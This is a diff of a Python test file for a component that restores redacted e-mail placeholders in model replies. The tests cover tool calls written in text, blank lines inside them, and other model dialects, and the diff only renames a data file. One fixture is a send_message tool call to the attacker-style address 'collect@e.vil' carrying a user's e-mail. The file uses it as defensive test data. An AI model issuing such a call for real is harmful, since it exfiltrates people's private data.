@@ -516,7 +516,7 @@ def test_a_brace_left_open_in_prose_makes_no_code_of_the_paragraphs_after_it(pro
 
 
 # rev23 H1: a blank line inside a tool call written in text, or inside JSON, ended the code there (41d744e restored
-# the value after it, plain and streamed). A tool call's code runs to its end's mark (data/text_tool_call_ends.txt) or
+# the value after it, plain and streamed). A tool call's code runs to its end's mark (data/text_tool_calls.yaml) or
 # the reply's end; a JSON object's to its closing `}`, across blank lines while the next paragraph goes on as JSON.
 BLANK_LINE_CALLS = [
     '<tool_call>\n{"name": "send_message", "arguments": {"to": "collect@e.vil",\n\n"body": "From <EMAIL_1> ok"}}\n'
@@ -589,7 +589,7 @@ DIALECT_CALLS = [
 
 @pytest.mark.parametrize("call", DIALECT_CALLS)
 def test_a_blank_line_inside_another_dialects_tool_call_keeps_its_values(protector, call):
-    """Gemma, Llama and Anthropic-style calls written in text (data/text_tool_calls.txt), whole and a character at a
+    """Gemma, Llama and Anthropic-style calls written in text (data/text_tool_calls.yaml), whole and a character at a
     time: the e-mail stays up to the call's end's mark; prose after it and a blank line gets it back."""
     reply = f"{call}\n\nI wrote to <EMAIL_1>."
     whole = _restored_whole_and_streamed(protector, "dialects", reply, f"{call}\n\nI wrote to {EMAIL_VALUE}.")
